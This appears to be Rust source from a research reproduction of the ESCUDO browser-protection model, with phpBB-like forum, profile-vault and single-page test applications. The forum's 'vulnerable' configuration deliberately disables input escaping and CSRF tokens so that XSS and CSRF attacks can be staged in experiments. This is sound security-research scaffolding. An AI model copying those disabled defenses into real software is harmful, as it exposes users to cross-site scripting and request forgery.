            app.handle(&Request::get("http://calendar.example/nope.php").unwrap())
                .status,
            StatusCode::NOT_FOUND
        );
        let sid = login(&mut app, "alice");
        let response = app.handle(&with_session(
            Request::post_form(
                "http://calendar.example/index.php",
                &[("action", "edit"), ("id", "42"), ("description", "x")],
            )
            .unwrap(),
            &sid,
        ));
        assert_eq!(response.status, StatusCode::NOT_FOUND);
    }
}
