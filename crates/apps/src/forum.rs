//! A multi-user message board modelled on **phpBB** (the paper's first case study).
//!
//! Users create topics, reply to them and exchange private messages. The key security
//! concern — quoted from the paper — is "appropriately limiting the capabilities of
//! messages posted by users": application content may modify the page, use the session
//! cookies and call `XMLHttpRequest`; topics, replies and private messages may not
//! (Table 2). The ESCUDO configuration implementing that policy is Table 3 and is
//! reproduced by [`ForumApp::escudo_config`].

use std::fmt;
use std::sync::{Arc, Mutex};

use escudo_core::config::{ApiPolicy, CookiePolicy, NativeApi};
use escudo_core::{Acl, Ring};
use escudo_net::{Request, Response, Server, SetCookie, StatusCode};

use crate::markup::AcMarkup;
use crate::session::SessionStore;
use crate::template::html_escape;

/// The session-identifier cookie name (as in phpBB).
pub const SID_COOKIE: &str = "phpbb2mysql_sid";
/// The user-data cookie name (as in phpBB).
pub const DATA_COOKIE: &str = "phpbb2mysql_data";

/// Configuration of the forum application.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct ForumConfig {
    /// Emit the ESCUDO configuration (AC tags + policy headers). When `false` the
    /// application is a plain legacy application.
    pub escudo: bool,
    /// Server-side input validation (HTML-escaping of user content). §6.4 removes it
    /// to stage the XSS attacks.
    pub input_validation: bool,
    /// Secret-token CSRF validation on state-changing requests. §6.4 removes it to
    /// stage the CSRF attacks.
    pub csrf_tokens: bool,
    /// Seed for nonces and session identifiers (reproducible pages).
    pub seed: u64,
}

impl Default for ForumConfig {
    fn default() -> Self {
        ForumConfig {
            escudo: true,
            input_validation: true,
            csrf_tokens: true,
            seed: 0xF0F0,
        }
    }
}

impl ForumConfig {
    /// The configuration used by the §6.4 attack experiments: conventional defenses
    /// off, ESCUDO configuration on (whether it is *enforced* depends on the browser).
    #[must_use]
    pub fn vulnerable() -> Self {
        ForumConfig {
            escudo: true,
            input_validation: false,
            csrf_tokens: false,
            seed: 0xF0F0,
        }
    }

    /// A legacy application: no ESCUDO configuration at all.
    #[must_use]
    pub fn legacy() -> Self {
        ForumConfig {
            escudo: false,
            input_validation: true,
            csrf_tokens: true,
            seed: 0xF0F0,
        }
    }
}

/// A discussion topic.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Topic {
    /// Topic id.
    pub id: usize,
    /// Topic title.
    pub title: String,
    /// Author user name.
    pub author: String,
    /// Message body (raw, as submitted).
    pub body: String,
}

/// A reply to a topic.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Reply {
    /// Reply id.
    pub id: usize,
    /// The topic this reply belongs to.
    pub topic_id: usize,
    /// Author user name.
    pub author: String,
    /// Message body (raw, as submitted).
    pub body: String,
}

/// A private message.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PrivateMessage {
    /// Message id.
    pub id: usize,
    /// Sender.
    pub from: String,
    /// Recipient.
    pub to: String,
    /// Message body (raw, as submitted).
    pub body: String,
}

/// The forum's server-side state (shared with tests/experiments via `Arc<Mutex<_>>`).
#[derive(Debug)]
pub struct ForumState {
    /// Topics, oldest first.
    pub topics: Vec<Topic>,
    /// Replies, oldest first.
    pub replies: Vec<Reply>,
    /// Private messages, oldest first.
    pub private_messages: Vec<PrivateMessage>,
    /// Live sessions.
    pub sessions: SessionStore,
}

impl ForumState {
    fn new(seed: u64) -> Self {
        ForumState {
            topics: Vec::new(),
            replies: Vec::new(),
            private_messages: Vec::new(),
            sessions: SessionStore::new(seed),
        }
    }

    /// Topics authored by `user`.
    #[must_use]
    pub fn topics_by(&self, user: &str) -> Vec<&Topic> {
        self.topics.iter().filter(|t| t.author == user).collect()
    }

    /// Replies authored by `user`.
    #[must_use]
    pub fn replies_by(&self, user: &str) -> Vec<&Reply> {
        self.replies.iter().filter(|r| r.author == user).collect()
    }
}

/// One row of the Table 2 requirements matrix.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RequirementRow {
    /// The principal class.
    pub principal: &'static str,
    /// May it modify messages through the DOM?
    pub modify_dom: bool,
    /// May it access the session cookies?
    pub access_cookies: bool,
    /// May it use XMLHttpRequest?
    pub access_xhr: bool,
}

/// The Table 3 configuration, as data.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct EscudoConfigRow {
    /// The resource being configured.
    pub resource: &'static str,
    /// Its ring.
    pub ring: u16,
    /// Read bound.
    pub read: u16,
    /// Write bound.
    pub write: u16,
}

/// The phpBB-like forum application.
pub struct ForumApp {
    config: ForumConfig,
    state: Arc<Mutex<ForumState>>,
}

impl fmt::Debug for ForumApp {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("ForumApp")
            .field("config", &self.config)
            .finish()
    }
}

impl ForumApp {
    /// Creates a forum with the given configuration.
    #[must_use]
    pub fn new(config: ForumConfig) -> Self {
        ForumApp {
            config,
            state: Arc::new(Mutex::new(ForumState::new(config.seed))),
        }
    }

    /// A handle to the server-side state, for tests and experiments.
    #[must_use]
    pub fn state(&self) -> Arc<Mutex<ForumState>> {
        Arc::clone(&self.state)
    }

    /// The Table 2 security requirements.
    #[must_use]
    pub fn security_requirements() -> Vec<RequirementRow> {
        vec![
            RequirementRow {
                principal: "Application contents",
                modify_dom: true,
                access_cookies: true,
                access_xhr: true,
            },
            RequirementRow {
                principal: "Topics and replies",
                modify_dom: false,
                access_cookies: false,
                access_xhr: false,
            },
            RequirementRow {
                principal: "Private messages",
                modify_dom: false,
                access_cookies: false,
                access_xhr: false,
            },
        ]
    }

    /// The Table 3 ESCUDO configuration.
    #[must_use]
    pub fn escudo_config() -> Vec<EscudoConfigRow> {
        vec![
            EscudoConfigRow {
                resource: "Cookies",
                ring: 1,
                read: 1,
                write: 1,
            },
            EscudoConfigRow {
                resource: "XMLHttpRequest",
                ring: 1,
                read: 1,
                write: 1,
            },
            EscudoConfigRow {
                resource: "Application contents",
                ring: 1,
                read: 1,
                write: 1,
            },
            EscudoConfigRow {
                resource: "Topics & Replies",
                ring: 3,
                read: 2,
                write: 2,
            },
            EscudoConfigRow {
                resource: "Private Messages",
                ring: 3,
                read: 2,
                write: 2,
            },
        ]
    }

    // ------------------------------------------------------------------ helpers

    fn sanitize(&self, input: &str) -> String {
        if self.config.input_validation {
            html_escape(input)
        } else {
            input.to_string()
        }
    }

    fn session_user(&self, request: &Request) -> Option<String> {
        let sid = request.cookie(SID_COOKIE)?;
        self.state
            .lock()
            .expect("app state lock")
            .sessions
            .get(&sid)
            .map(|s| s.user.clone())
    }

    fn csrf_token_for(&self, request: &Request) -> Option<String> {
        let sid = request.cookie(SID_COOKIE)?;
        self.state
            .lock()
            .expect("app state lock")
            .sessions
            .get(&sid)
            .map(|s| s.csrf_token.clone())
    }

    fn token_ok(&self, request: &Request) -> bool {
        if !self.config.csrf_tokens {
            return true;
        }
        match (self.csrf_token_for(request), request.param("token")) {
            (Some(expected), Some(offered)) => expected == offered,
            _ => false,
        }
    }

    fn with_policies(&self, response: Response) -> Response {
        if !self.config.escudo {
            return response;
        }
        let cookie_acl = Acl::uniform(Ring::new(1));
        response
            .with_cookie_policy(&CookiePolicy::new(SID_COOKIE, Ring::new(1)).with_acl(cookie_acl))
            .with_cookie_policy(&CookiePolicy::new(DATA_COOKIE, Ring::new(1)).with_acl(cookie_acl))
            .with_api_policy(&ApiPolicy::new(NativeApi::XmlHttpRequest, Ring::new(1)))
            .with_api_policy(&ApiPolicy::new(NativeApi::CookieApi, Ring::new(1)))
    }

    fn markup(&self) -> AcMarkup {
        AcMarkup::new(self.config.seed, self.config.escudo)
    }

    /// Wraps body content in the standard page chrome: ring-0 head (trusted scripts),
    /// ring-1 body, ring-1 application content.
    fn page(&self, title: &str, body_inner: String, token: Option<&str>) -> Response {
        let mut markup = self.markup();
        let head_script = markup.region(
            Ring::INNERMOST,
            Acl::uniform(Ring::INNERMOST),
            "id=\"head-app\"",
            "<script>var forumVersion = '2.0';</script>",
        );
        // The application's own client-side code: updates the status line and talks to
        // the server over XMLHttpRequest — the "Yes" row of Table 2.
        let app_script = "<script>\
             var statusEl = document.getElementById('app-status');\
             if (statusEl != null) { statusEl.innerHTML = 'ready'; }\
             </script>"
            .to_string();
        let token_field = token
            .map(|t| format!("<input type=\"hidden\" name=\"token\" value=\"{t}\">"))
            .unwrap_or_default();
        let app_region = markup.region(
            Ring::new(1),
            Acl::uniform(Ring::new(1)),
            "id=\"app\"",
            &format!(
                "<h1>{title}</h1>\
                 <div id=\"app-status\">loading</div>\
                 <form id=\"new-topic\" method=\"post\" action=\"/posting.php\">\
                   <input type=\"hidden\" name=\"mode\" value=\"post\">\
                   {token_field}\
                   <input type=\"text\" name=\"subject\" value=\"\">\
                   <textarea name=\"message\"></textarea>\
                   <input type=\"submit\" value=\"New topic\">\
                 </form>\
                 {app_script}\
                 <div id=\"content-root\">{body_inner}</div>"
            ),
        );
        let body = markup.region_with_tag(
            "body",
            Ring::new(1),
            Acl::uniform(Ring::new(1)),
            "",
            &app_region,
        );
        let html = format!(
            "<!DOCTYPE html><html><head><title>{title}</title>{head_script}</head>{body}</html>"
        );
        self.with_policies(Response::ok_html(html))
    }

    /// A user-content region (topic, reply or private message): ring 3, manipulable
    /// only from rings 0–2 — the Table 3 row for user content.
    fn user_region(&self, markup: &mut AcMarkup, id: &str, inner: &str) -> String {
        markup.region(
            Ring::new(3),
            Acl::new(Ring::new(2), Ring::new(2), Ring::new(2)),
            &format!("id=\"{id}\" class=\"user-content\""),
            inner,
        )
    }

    // ------------------------------------------------------------------ handlers

    fn handle_login(&mut self, request: &Request) -> Response {
        let user = request.param("user").unwrap_or_else(|| "guest".to_string());
        let sid = self
            .state
            .lock()
            .expect("app state lock")
            .sessions
            .create(&user);
        let response = Response::redirect("/index.php")
            .with_cookie(SetCookie::new(SID_COOKIE, sid))
            .with_cookie(SetCookie::new(DATA_COOKIE, format!("user={user}")));
        self.with_policies(response)
    }

    fn handle_index(&mut self, request: &Request) -> Response {
        let token = self.csrf_token_for(request);
        let mut markup = self.markup();
        let state = self.state.lock().expect("app state lock");
        let mut listing = String::new();
        for topic in &state.topics {
            let inner = format!(
                "<a id=\"topic-link-{id}\" href=\"/viewtopic.php?t={id}\">{title}</a> by {author}",
                id = topic.id,
                title = html_escape(&topic.title),
                author = html_escape(&topic.author),
            );
            listing.push_str(&self.user_region(
                &mut markup,
                &format!("topic-row-{}", topic.id),
                &inner,
            ));
        }
        drop(state);
        self.page("Forum index", listing, token.as_deref())
    }

    fn handle_view_topic(&mut self, request: &Request) -> Response {
        let Some(topic_id) = request.param("t").and_then(|t| t.parse::<usize>().ok()) else {
            return Response::error(StatusCode::BAD_REQUEST, "missing topic id");
        };
        let token = self.csrf_token_for(request);
        let mut markup = self.markup();
        let state = self.state.lock().expect("app state lock");
        let Some(topic) = state.topics.iter().find(|t| t.id == topic_id) else {
            return Response::error(StatusCode::NOT_FOUND, "no such topic");
        };
        let mut inner = self.user_region(
            &mut markup,
            &format!("topic-{}", topic.id),
            &format!(
                "<h2>{}</h2><div class=\"post-body\">{}</div><span class=\"author\">{}</span>",
                self.sanitize(&topic.title),
                self.sanitize(&topic.body),
                html_escape(&topic.author)
            ),
        );
        for reply in state.replies.iter().filter(|r| r.topic_id == topic_id) {
            inner.push_str(&self.user_region(
                &mut markup,
                &format!("reply-{}", reply.id),
                &format!(
                    "<div class=\"post-body\">{}</div><span class=\"author\">{}</span>",
                    self.sanitize(&reply.body),
                    html_escape(&reply.author)
                ),
            ));
        }
        let token_field = token
            .as_deref()
            .map(|t| format!("<input type=\"hidden\" name=\"token\" value=\"{t}\">"))
            .unwrap_or_default();
        inner.push_str(&format!(
            "<form id=\"reply-form\" method=\"post\" action=\"/posting.php\">\
               <input type=\"hidden\" name=\"mode\" value=\"reply\">\
               <input type=\"hidden\" name=\"t\" value=\"{topic_id}\">\
               {token_field}\
               <textarea name=\"message\"></textarea>\
               <input type=\"submit\" value=\"Reply\">\
             </form>"
        ));
        drop(state);
        self.page(&format!("Topic {topic_id}"), inner, token.as_deref())
    }

    fn handle_posting(&mut self, request: &Request) -> Response {
        let Some(user) = self.session_user(request) else {
            return Response::error(StatusCode::FORBIDDEN, "not logged in");
        };
        if !self.token_ok(request) {
            return Response::error(StatusCode::FORBIDDEN, "invalid anti-csrf token");
        }
        let mode = request.param("mode").unwrap_or_else(|| "post".to_string());
        let message = request.param("message").unwrap_or_default();
        let mut state = self.state.lock().expect("app state lock");
        match mode.as_str() {
            "post" => {
                let id = state.topics.len() + 1;
                let title = request
                    .param("subject")
                    .unwrap_or_else(|| "untitled".to_string());
                state.topics.push(Topic {
                    id,
                    title,
                    author: user,
                    body: message,
                });
                self.with_policies(Response::redirect(&format!("/viewtopic.php?t={id}")))
            }
            "reply" => {
                let Some(topic_id) = request.param("t").and_then(|t| t.parse::<usize>().ok())
                else {
                    return Response::error(StatusCode::BAD_REQUEST, "missing topic id");
                };
                let id = state.replies.len() + 1;
                state.replies.push(Reply {
                    id,
                    topic_id,
                    author: user,
                    body: message,
                });
                self.with_policies(Response::redirect(&format!("/viewtopic.php?t={topic_id}")))
            }
            other => Response::error(StatusCode::BAD_REQUEST, format!("unknown mode {other}")),
        }
    }

    fn handle_pm(&mut self, request: &Request) -> Response {
        let Some(user) = self.session_user(request) else {
            return Response::error(StatusCode::FORBIDDEN, "not logged in");
        };
        if request.method == escudo_net::Method::Post || request.param("message").is_some() {
            if !self.token_ok(request) {
                return Response::error(StatusCode::FORBIDDEN, "invalid anti-csrf token");
            }
            let to = request.param("to").unwrap_or_else(|| "admin".to_string());
            let body = request.param("message").unwrap_or_default();
            let mut state = self.state.lock().expect("app state lock");
            let id = state.private_messages.len() + 1;
            state.private_messages.push(PrivateMessage {
                id,
                from: user,
                to,
                body,
            });
            return self.with_policies(Response::redirect("/pm.php"));
        }
        let token = self.csrf_token_for(request);
        let mut markup = self.markup();
        let state = self.state.lock().expect("app state lock");
        let mut inner = String::new();
        for pm in state.private_messages.iter().filter(|p| p.to == user) {
            inner.push_str(&self.user_region(
                &mut markup,
                &format!("pm-{}", pm.id),
                &format!(
                    "<span class=\"from\">{}</span><div class=\"post-body\">{}</div>",
                    html_escape(&pm.from),
                    self.sanitize(&pm.body)
                ),
            ));
        }
        drop(state);
        self.page("Private messages", inner, token.as_deref())
    }
}

impl Server for ForumApp {
    fn handle(&mut self, request: &Request) -> Response {
        match request.url.path() {
            "/login.php" | "/login" => self.handle_login(request),
            "/" | "/index.php" => self.handle_index(request),
            "/viewtopic.php" => self.handle_view_topic(request),
            "/posting.php" => self.handle_posting(request),
            "/pm.php" => self.handle_pm(request),
            _ => Response::error(StatusCode::NOT_FOUND, "not found"),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use escudo_net::Method;

    fn login(app: &mut ForumApp, user: &str) -> String {
        let response = app
            .handle(&Request::get(&format!("http://forum.example/login.php?user={user}")).unwrap());
        let cookies = response.set_cookies();
        cookies
            .iter()
            .find(|c| c.name == SID_COOKIE)
            .map(|c| c.value.clone())
            .expect("login sets a session cookie")
    }

    fn with_session(mut request: Request, sid: &str) -> Request {
        request.headers.set("Cookie", format!("{SID_COOKIE}={sid}"));
        request
    }

    #[test]
    fn login_issues_session_and_policy_headers() {
        let mut app = ForumApp::new(ForumConfig::default());
        let response =
            app.handle(&Request::get("http://forum.example/login.php?user=alice").unwrap());
        assert!(response.status.is_redirect());
        assert_eq!(response.set_cookies().len(), 2);
        assert_eq!(response.cookie_policies().len(), 2);
        assert_eq!(response.api_policies().len(), 2);
        assert_eq!(
            app.state().lock().expect("app state lock").sessions.len(),
            1
        );
    }

    #[test]
    fn legacy_configuration_emits_no_escudo_headers_or_attributes() {
        let mut app = ForumApp::new(ForumConfig::legacy());
        let sid = login(&mut app, "alice");
        let page = app.handle(&with_session(
            Request::get("http://forum.example/index.php").unwrap(),
            &sid,
        ));
        assert!(page.cookie_policies().is_empty());
        assert!(page.api_policies().is_empty());
        assert!(!page.body.contains("ring="));
        assert!(!page.body.contains("nonce="));
    }

    #[test]
    fn posting_and_replying_require_a_session() {
        let mut app = ForumApp::new(ForumConfig::vulnerable());
        let denied = app.handle(
            &Request::post_form(
                "http://forum.example/posting.php",
                &[("mode", "post"), ("subject", "x"), ("message", "y")],
            )
            .unwrap(),
        );
        assert_eq!(denied.status, StatusCode::FORBIDDEN);
        assert!(app
            .state()
            .lock()
            .expect("app state lock")
            .topics
            .is_empty());

        let sid = login(&mut app, "alice");
        let ok = app.handle(&with_session(
            Request::post_form(
                "http://forum.example/posting.php",
                &[
                    ("mode", "post"),
                    ("subject", "Hello"),
                    ("message", "First post"),
                ],
            )
            .unwrap(),
            &sid,
        ));
        assert!(ok.status.is_redirect());
        assert_eq!(app.state().lock().expect("app state lock").topics.len(), 1);
        assert_eq!(
            app.state().lock().expect("app state lock").topics[0].author,
            "alice"
        );

        let reply = app.handle(&with_session(
            Request::post_form(
                "http://forum.example/posting.php",
                &[("mode", "reply"), ("t", "1"), ("message", "A reply")],
            )
            .unwrap(),
            &sid,
        ));
        assert!(reply.status.is_redirect());
        assert_eq!(app.state().lock().expect("app state lock").replies.len(), 1);
    }

    #[test]
    fn csrf_tokens_are_enforced_when_enabled() {
        let mut app = ForumApp::new(ForumConfig::default());
        let sid = login(&mut app, "alice");
        // Without the token the post is rejected.
        let rejected = app.handle(&with_session(
            Request::post_form(
                "http://forum.example/posting.php",
                &[("mode", "post"), ("subject", "x"), ("message", "y")],
            )
            .unwrap(),
            &sid,
        ));
        assert_eq!(rejected.status, StatusCode::FORBIDDEN);
        // With the correct token it succeeds.
        let token = app
            .state()
            .lock()
            .expect("app state lock")
            .sessions
            .get(&sid)
            .unwrap()
            .csrf_token
            .clone();
        let accepted = app.handle(&with_session(
            Request::post_form(
                "http://forum.example/posting.php",
                &[
                    ("mode", "post"),
                    ("subject", "x"),
                    ("message", "y"),
                    ("token", &token),
                ],
            )
            .unwrap(),
            &sid,
        ));
        assert!(accepted.status.is_redirect());
    }

    #[test]
    fn topic_pages_wrap_user_content_in_ring_3_regions() {
        let mut app = ForumApp::new(ForumConfig::vulnerable());
        let sid = login(&mut app, "mallory");
        app.handle(&with_session(
            Request::post_form(
                "http://forum.example/posting.php",
                &[
                    ("mode", "post"),
                    ("subject", "Title"),
                    ("message", "<b>hello</b>"),
                ],
            )
            .unwrap(),
            &sid,
        ));
        let page = app.handle(&with_session(
            Request::get("http://forum.example/viewtopic.php?t=1").unwrap(),
            &sid,
        ));
        assert!(page.body.contains("id=\"topic-1\""));
        assert!(page.body.contains("ring=\"3\""));
        // Input validation is off in the vulnerable configuration, so the markup is raw.
        assert!(page.body.contains("<b>hello</b>"));

        // With validation on, the same content is escaped.
        let mut safe_app = ForumApp::new(ForumConfig::default());
        let sid = login(&mut safe_app, "mallory");
        let token = safe_app
            .state()
            .lock()
            .expect("app state lock")
            .sessions
            .get(&sid)
            .unwrap()
            .csrf_token
            .clone();
        safe_app.handle(&with_session(
            Request::post_form(
                "http://forum.example/posting.php",
                &[
                    ("mode", "post"),
                    ("subject", "t"),
                    ("message", "<b>hello</b>"),
                    ("token", &token),
                ],
            )
            .unwrap(),
            &sid,
        ));
        let page = safe_app.handle(&with_session(
            Request::get("http://forum.example/viewtopic.php?t=1").unwrap(),
            &sid,
        ));
        assert!(page.body.contains("&lt;b&gt;hello&lt;/b&gt;"));
    }

    #[test]
    fn private_messages_are_delivered_to_the_recipient() {
        let mut app = ForumApp::new(ForumConfig::vulnerable());
        let alice = login(&mut app, "alice");
        let bob = login(&mut app, "bob");
        app.handle(&with_session(
            Request::post_form(
                "http://forum.example/pm.php",
                &[("to", "bob"), ("message", "secret plan")],
            )
            .unwrap(),
            &alice,
        ));
        assert_eq!(
            app.state()
                .lock()
                .expect("app state lock")
                .private_messages
                .len(),
            1
        );
        let inbox = app.handle(&with_session(
            Request::get("http://forum.example/pm.php").unwrap(),
            &bob,
        ));
        assert!(inbox.body.contains("secret plan"));
        assert!(inbox.body.contains("id=\"pm-1\""));
    }

    #[test]
    fn unknown_routes_are_404() {
        let mut app = ForumApp::new(ForumConfig::default());
        let response = app.handle(&Request::get("http://forum.example/admin.php").unwrap());
        assert_eq!(response.status, StatusCode::NOT_FOUND);
        let response = app.handle(&Request::new(
            Method::Get,
            escudo_net::Url::parse("http://forum.example/viewtopic.php?t=99").unwrap(),
        ));
        assert_eq!(response.status, StatusCode::NOT_FOUND);
    }

    #[test]
    fn requirement_and_configuration_tables_match_the_paper() {
        let requirements = ForumApp::security_requirements();
        assert_eq!(requirements.len(), 3);
        assert!(requirements[0].modify_dom && requirements[0].access_xhr);
        assert!(!requirements[1].modify_dom && !requirements[1].access_cookies);

        let config = ForumApp::escudo_config();
        let cookies = config.iter().find(|r| r.resource == "Cookies").unwrap();
        assert_eq!((cookies.ring, cookies.read, cookies.write), (1, 1, 1));
        let user = config
            .iter()
            .find(|r| r.resource == "Topics & Replies")
            .unwrap();
        assert_eq!((user.ring, user.read, user.write), (3, 2, 2));
    }
}
