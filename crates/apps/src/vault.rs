//! A profile "vault" whose protection is attached to individual DOM nodes.
//!
//! The origin- and region-level scenarios label whole page areas; this one is
//! WebPol-style per-element policy: three sibling fields of one profile carry
//! three different labels — the display name is public (ring 3, readable by
//! anyone), the e-mail is confidential (ring 2), and the API token is secret
//! (ring 1, ring-1-only ACL). A ring-3 gadget script mounted next to them is
//! the probe: the executor checks each field leak-by-leak, one cell per
//! element, rather than one verdict for the page.

use std::fmt;
use std::sync::{Arc, Mutex};

use escudo_core::config::{ApiPolicy, CookiePolicy, NativeApi};
use escudo_core::{Acl, Ring};
use escudo_net::{Request, Response, Server, SetCookie, StatusCode};

use crate::markup::AcMarkup;
use crate::session::SessionStore;

/// The vault's session cookie.
pub const VAULT_COOKIE: &str = "vault_session";

/// The profile's public display name.
pub const DISPLAY_NAME: &str = "Pat Doe";
/// The profile's confidential e-mail address.
pub const EMAIL: &str = "pat@vault.example";
/// The profile's secret API token.
pub const API_TOKEN: &str = "tok-9f3a77c1";

/// Server-side state of the vault.
#[derive(Debug)]
pub struct VaultState {
    /// Live sessions.
    pub sessions: SessionStore,
}

/// The per-element-policy profile application.
pub struct VaultApp {
    escudo: bool,
    /// The gadget script mounted in the ring-3 slot, if any.
    gadget_script: Option<String>,
    state: Arc<Mutex<VaultState>>,
}

impl fmt::Debug for VaultApp {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("VaultApp")
            .field("escudo", &self.escudo)
            .field("gadget", &self.gadget_script.is_some())
            .finish()
    }
}

impl VaultApp {
    /// Creates the vault with ESCUDO configuration on and no gadget.
    #[must_use]
    pub fn new() -> Self {
        VaultApp {
            escudo: true,
            gadget_script: None,
            state: Arc::new(Mutex::new(VaultState {
                sessions: SessionStore::new(0x7A01),
            })),
        }
    }

    /// Mounts a gadget script in the ring-3 slot (builder style).
    #[must_use]
    pub fn with_gadget(mut self, script: &str) -> Self {
        self.gadget_script = Some(script.to_string());
        self
    }

    /// A handle to the server-side state.
    #[must_use]
    pub fn state(&self) -> Arc<Mutex<VaultState>> {
        Arc::clone(&self.state)
    }

    fn with_policies(&self, response: Response) -> Response {
        if !self.escudo {
            return response;
        }
        response
            .with_cookie_policy(
                &CookiePolicy::new(VAULT_COOKIE, Ring::new(1)).with_acl(Acl::uniform(Ring::new(1))),
            )
            .with_api_policy(&ApiPolicy::new(NativeApi::XmlHttpRequest, Ring::new(1)))
            .with_api_policy(&ApiPolicy::new(NativeApi::CookieApi, Ring::new(1)))
    }

    fn render_profile(&self) -> Response {
        let mut markup = AcMarkup::new(0x7A01, self.escudo);

        // Per-element labels: each field is its own AC-tagged node with its
        // own ring and ACL, not a shared region label.
        let name = markup.region_with_tag(
            "span",
            Ring::new(3),
            Acl::uniform(Ring::new(3)),
            "id=\"display-name\"",
            DISPLAY_NAME,
        );
        let email = markup.region_with_tag(
            "span",
            Ring::new(2),
            Acl::uniform(Ring::new(2)),
            "id=\"email\"",
            EMAIL,
        );
        let token = markup.region_with_tag(
            "span",
            Ring::new(1),
            Acl::uniform(Ring::new(1)),
            "id=\"api-token\"",
            API_TOKEN,
        );
        let profile = markup.region(
            Ring::new(1),
            Acl::uniform(Ring::new(1)),
            "id=\"profile\"",
            &format!("<h1>Profile</h1>{name}{email}{token}"),
        );

        let gadget = match &self.gadget_script {
            Some(script) => markup.region(
                Ring::new(3),
                Acl::uniform(Ring::new(3)),
                "id=\"gadget\"",
                &format!("<span id=\"gadget-out\">gadget</span><script>{script}</script>"),
            ),
            None => String::new(),
        };

        let body = markup.region_with_tag(
            "body",
            Ring::new(1),
            Acl::uniform(Ring::new(1)),
            "",
            &format!("{profile}{gadget}"),
        );
        self.with_policies(Response::ok_html(format!(
            "<!DOCTYPE html><html><head><title>Vault</title></head>{body}</html>"
        )))
    }
}

impl Default for VaultApp {
    fn default() -> Self {
        VaultApp::new()
    }
}

impl Server for VaultApp {
    fn handle(&mut self, request: &Request) -> Response {
        match request.url.path() {
            "/login" | "/login.php" => {
                let user = request.param("user").unwrap_or_else(|| "pat".to_string());
                let sid = self
                    .state
                    .lock()
                    .expect("app state lock")
                    .sessions
                    .create(&user);
                self.with_policies(
                    Response::redirect("/profile").with_cookie(SetCookie::new(VAULT_COOKIE, sid)),
                )
            }
            "/" | "/profile" => self.render_profile(),
            _ => Response::error(StatusCode::NOT_FOUND, "not found"),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn each_profile_field_carries_its_own_label() {
        let mut app = VaultApp::new();
        let page = app.handle(&Request::get("http://vault.example/profile").unwrap());
        // Three sibling fields, three different rings on individual elements.
        assert!(page.body.contains("id=\"display-name\""));
        assert!(page.body.contains("id=\"email\""));
        assert!(page.body.contains("id=\"api-token\""));
        assert!(page.body.contains("ring=\"3\""));
        assert!(page.body.contains("ring=\"2\""));
        let token_tag = page
            .body
            .split("<span ")
            .find(|chunk| chunk.contains("id=\"api-token\""))
            .expect("token span present");
        assert!(token_tag.contains("ring=\"1\""));
        assert!(token_tag.contains("r=\"1\""));
    }

    #[test]
    fn gadgets_mount_in_a_ring_3_slot() {
        let mut app = VaultApp::new().with_gadget("var g = 1;");
        let page = app.handle(&Request::get("http://vault.example/profile").unwrap());
        assert!(page.body.contains("id=\"gadget\""));
        assert!(page.body.contains("var g = 1;"));
        assert_eq!(page.api_policies().len(), 2);
    }

    #[test]
    fn login_and_unknown_routes() {
        let mut app = VaultApp::new();
        let response = app.handle(&Request::get("http://vault.example/login?user=pat").unwrap());
        assert_eq!(response.set_cookies().len(), 1);
        assert_eq!(
            app.handle(&Request::get("http://vault.example/missing").unwrap())
                .status,
            StatusCode::NOT_FOUND
        );
    }
}
