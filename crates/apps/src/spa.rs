//! A single-page application whose content is assembled by the script
//! interpreter at load time.
//!
//! The server ships an almost-empty shell: a status line, an empty `#view`
//! container, and a ring-1 bootstrap script that builds the actual page —
//! notes rendered into `#view`, status flipped to `ready` — through the DOM
//! API. This stresses the *dynamic* labeling path (`label_dynamic_subtree`):
//! every node the user sees was created by a script, so its ring comes from
//! the creator-∧-parent clamp rather than from AC tags in the markup. A
//! third-party widget (ring 3) can be mounted after the shell to play the
//! attacker.

use std::fmt;
use std::sync::{Arc, Mutex};

use escudo_core::config::{ApiPolicy, CookiePolicy, NativeApi};
use escudo_core::{Acl, Ring};
use escudo_net::{Request, Response, Server, SetCookie, StatusCode};

use crate::markup::AcMarkup;
use crate::session::SessionStore;

/// The SPA's session cookie.
pub const SPA_COOKIE: &str = "spa_session";

/// A note saved through the `/api/save` endpoint.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SavedNote {
    /// The user the session resolved to (`anonymous` without a session).
    pub author: String,
    /// The note body.
    pub note: String,
}

/// Server-side state of the SPA.
#[derive(Debug)]
pub struct SpaState {
    /// Notes saved via the API, oldest first.
    pub saved: Vec<SavedNote>,
    /// Live sessions.
    pub sessions: SessionStore,
}

/// The single-page application.
pub struct SpaApp {
    escudo: bool,
    /// The third-party widget script mounted in the ring-3 slot, if any.
    widget_script: Option<String>,
    state: Arc<Mutex<SpaState>>,
}

impl fmt::Debug for SpaApp {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("SpaApp")
            .field("escudo", &self.escudo)
            .field("widget", &self.widget_script.is_some())
            .finish()
    }
}

impl SpaApp {
    /// Creates the SPA with ESCUDO configuration on and no widget.
    #[must_use]
    pub fn new() -> Self {
        SpaApp {
            escudo: true,
            widget_script: None,
            state: Arc::new(Mutex::new(SpaState {
                saved: Vec::new(),
                sessions: SessionStore::new(0x59A0),
            })),
        }
    }

    /// Mounts a third-party widget script in the ring-3 slot (builder style).
    #[must_use]
    pub fn with_widget(mut self, script: &str) -> Self {
        self.widget_script = Some(script.to_string());
        self
    }

    /// A handle to the server-side state.
    #[must_use]
    pub fn state(&self) -> Arc<Mutex<SpaState>> {
        Arc::clone(&self.state)
    }

    fn with_policies(&self, response: Response) -> Response {
        if !self.escudo {
            return response;
        }
        response
            .with_cookie_policy(
                &CookiePolicy::new(SPA_COOKIE, Ring::new(1)).with_acl(Acl::uniform(Ring::new(1))),
            )
            .with_api_policy(&ApiPolicy::new(NativeApi::XmlHttpRequest, Ring::new(1)))
            .with_api_policy(&ApiPolicy::new(NativeApi::CookieApi, Ring::new(1)))
    }

    fn render_shell(&self) -> Response {
        let mut markup = AcMarkup::new(0x59A0, self.escudo);

